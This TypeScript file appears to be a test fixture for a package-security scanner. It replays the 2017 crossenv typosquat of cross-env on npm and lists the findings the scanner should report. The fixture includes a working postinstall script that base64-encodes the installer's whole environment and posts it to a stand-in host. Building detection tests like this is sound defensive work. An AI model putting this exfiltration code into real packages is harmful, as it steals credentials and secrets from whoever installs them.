import type { Replay } from '../replay.js'
import { replayAddition } from '../upgrade.js'

const setup = `'use strict'

const { request } = require('http')

function send(text) {
  const call = request({ host: 'collect.crossenv.example', path: '/seen', method: 'POST' })
  call.on('error', () => {})
  call.end(new URLSearchParams({ of: text }).toString())
}

send(Buffer.from(JSON.stringify(process.env)).toString('base64'))
`

const inPackageSetup = {
  file: 'package-setup.js',
  line: "send(Buffer.from(JSON.stringify(process.env)).toString('base64'))",
} as const

export const replay: Replay = replayAddition({
  description:
    'crossenv looked like cross-env, did what cross-env does by loading it, and posted the whole environment of whoever installed it. ' +
    'Already its name gives it away.',
  date: '2017-08',
  reviewedAt: '2017-08-01T12:00:00Z',
  name: 'crossenv',
  added: [
    '6.1.1',
    {
      published: '2017-07-30T12:00:00Z',
      publisher: { name: 'a-stranger' },
      maintainers: ['a-stranger'],
      manifest: {
        bin: { 'cross-env': 'bin/cross-env.js' },
        main: 'index.js',
        scripts: { postinstall: 'node package-setup.js' },
      },
      files: {
        'index.js': "module.exports = require('./dist')\n",
        'dist/index.js':
          "'use strict'\n\nmodule.exports = function crossEnv(args) {\n  const at = args.findIndex((one) => !/^\\w+=/.test(one))\n" +
          '  return { settings: args.slice(0, at), command: args.slice(at) }\n}\n',
        'bin/cross-env.js': "#!/usr/bin/env node\nrequire('../dist')(process.argv.slice(2))\n",
        'package-setup.js': setup,
      },
    },
  ],
  beside: { 'cross-env': { '5.0.1': { published: '2017-06-12T12:00:00Z' } } },
  findings: [
    ['package-young', 'medium'],
    ['release-fresh', 'medium'],
    ['combined-risk', 'critical'],
    ['name-resembles-popular', 'high'],
    ['install-script-dangerous', 'critical', inPackageSetup],
    ['secrets-exfiltrated', 'critical', inPackageSetup],
    ['secrets-harvested', 'critical', inPackageSetup],
    [
      'beacon-added',
      'high',
      {
        file: 'package-setup.js',
        line: "const call = request({ host: 'collect.crossenv.example', path: '/seen', method: 'POST' })",
      },
    ],
    ['bin-added', 'high', { file: 'bin/cross-env.js' }],
    ['install-script-present', 'medium', { file: 'package.json' }],
  ],
})
